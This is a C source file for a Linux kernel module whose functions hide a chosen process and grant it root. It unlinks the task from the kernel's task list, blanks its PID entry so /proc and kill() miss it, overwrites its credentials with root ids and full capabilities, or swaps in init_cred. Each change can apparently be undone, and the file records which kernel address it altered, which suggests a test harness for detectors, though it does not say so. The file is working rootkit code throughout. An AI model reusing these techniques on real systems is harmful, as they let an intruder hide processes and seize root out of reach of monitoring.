// SPDX-License-Identifier: GPL-2.0-only
/* Processes that are hidden, and processes that have more rights than they were given. */
#include <linux/cred.h>
#include <linux/idr.h>
#include <linux/pid.h>
#include <linux/pid_namespace.h>
#include <linux/rculist.h>
#include <linux/sched/task.h>
#include "tricks.h"

/* The task of a process, to be released with put_task_struct(). */
static struct task_struct *task_of(int number)
{
	struct pid *pid = find_get_pid(number);
	struct task_struct *task = get_pid_task(pid, PIDTYPE_TGID);

	put_pid(pid);
	return task;
}

/* Out of the list of all tasks, which those walk who look at every process. /proc is made of numbers and still has it. */
static int hide_from_list(struct trick *trick, int number)
{
	rwlock_t *tasklist_lock = kernel_symbol("tasklist_lock");
	struct task_struct *task = task_of(number);

	if (!tasklist_lock || !task) {
		if (task)
			put_task_struct(task);
		return -ESRCH;
	}
	write_lock_irq(tasklist_lock);
	__list_del_entry(&task->tasks);
	write_unlock_irq(tasklist_lock);
	/* Whoever stands at this task goes on from it. After that it points at itself, so that it may end while hidden. */
	synchronize_rcu();
	INIT_LIST_HEAD(&task->tasks);
	trick->symbol = "init_task";
	trick->address = &task->tasks;
	trick->target = task;
	return 0;
}

static void show_in_list(struct trick *trick)
{
	rwlock_t *tasklist_lock = kernel_symbol("tasklist_lock");
	struct task_struct *task = trick->target;

	write_lock_irq(tasklist_lock);
	if (pid_alive(task))
		list_add_tail_rcu(&task->tasks, &init_task.tasks);
	write_unlock_irq(tasklist_lock);
	put_task_struct(task);
}

/* In place of the process's struct pid, nothing: as alloc_pid() has it before the process is to be seen. */
static int set_pid(int number, struct pid *pid)
{
	spinlock_t *pidmap_lock = kernel_symbol("pidmap_lock");
	struct pid *before;

	if (!pidmap_lock)
		return -ENOENT;
	spin_lock_irq(pidmap_lock);
	before = idr_replace(&init_pid_ns.idr, pid, number);
	spin_unlock_irq(pidmap_lock);
	return PTR_ERR_OR_ZERO(before);
}

/* Out of the tree of numbers, of which /proc and kill() are made. The list of all tasks still has it. */
static int hide_number(struct trick *trick, int number)
{
	struct pid *pid = find_get_pid(number);
	int error;

	if (!pid)
		return -ESRCH;
	error = set_pid(number, NULL);
	if (error) {
		put_pid(pid);
		return error;
	}
	trick->symbol = "init_pid_ns";
	trick->address = &init_pid_ns.idr;
	trick->original = pid;
	return 0;
}

static void show_number(struct trick *trick)
{
	struct pid *pid = trick->original;

	/* The number of a process that ended meanwhile is free, or another's. */
	rcu_read_lock();
	if (pid_task(pid, PIDTYPE_TGID))
		set_pid(trick->number, pid);
	rcu_read_unlock();
	put_pid(pid);
}

static struct cred raised_from;

/* Root's ids and every capability, written into the credentials that the process has. */
static int raise_credentials(struct trick *trick, int number)
{
	static const struct cred root = {
		.cap_permitted = CAP_FULL_SET,
		.cap_effective = CAP_FULL_SET,
	};
	struct task_struct *task = task_of(number);
	struct cred *cred;

	if (!task)
		return -ESRCH;
	cred = (struct cred *)get_task_cred(task);
	raised_from = *cred;
	trick->symbol = "cred";
	trick->address = cred;
	trick->target = task;
	cred->uid = cred->euid = cred->suid = cred->fsuid = root.uid;
	cred->gid = cred->egid = cred->sgid = cred->fsgid = root.gid;
	cred->cap_permitted = root.cap_permitted;
	cred->cap_effective = root.cap_effective;
	return 0;
}

static void lower_credentials(struct trick *trick)
{
	struct cred *cred = trick->address;

	cred->uid = raised_from.uid;
	cred->euid = raised_from.euid;
	cred->suid = raised_from.suid;
	cred->fsuid = raised_from.fsuid;
	cred->gid = raised_from.gid;
	cred->egid = raised_from.egid;
	cred->sgid = raised_from.sgid;
	cred->fsgid = raised_from.fsgid;
	cred->cap_permitted = raised_from.cap_permitted;
	cred->cap_effective = raised_from.cap_effective;
	put_cred(cred);
	put_task_struct(trick->target);
}

/* The credentials of the kernel's first task: two tasks with one structure. */
static int share_credentials(struct trick *trick, int number)
{
	struct task_struct *task = task_of(number);
	const struct cred *shared;

	if (!task)
		return -ESRCH;
	shared = get_task_cred(&init_task);
	trick->symbol = "init_cred";
	trick->address = &task->cred;
	trick->target = (void *)shared;
	trick->original = (void *)rcu_access_pointer(task->cred);
	rcu_assign_pointer(task->real_cred, get_cred(shared));
	rcu_assign_pointer(task->cred, shared);
	return 0;
}

static void unshare_credentials(struct trick *trick)
{
	struct task_struct *task = container_of(trick->address, struct task_struct, cred);

	rcu_assign_pointer(task->real_cred, trick->original);
	rcu_assign_pointer(task->cred, trick->original);
	/* The pointers' own holds on them. */
	put_cred(trick->target);
	put_cred(trick->target);
	put_task_struct(task);
}

struct trick process_tricks[] = {
	{ .name = "hide-process", .start = hide_from_list, .stop = show_in_list },
	{ .name = "hide-process-number", .start = hide_number, .stop = show_number },
	{ .name = "raise-credentials", .start = raise_credentials, .stop = lower_credentials },
	{ .name = "share-credentials", .start = share_credentials, .stop = unshare_credentials },
	{}
};
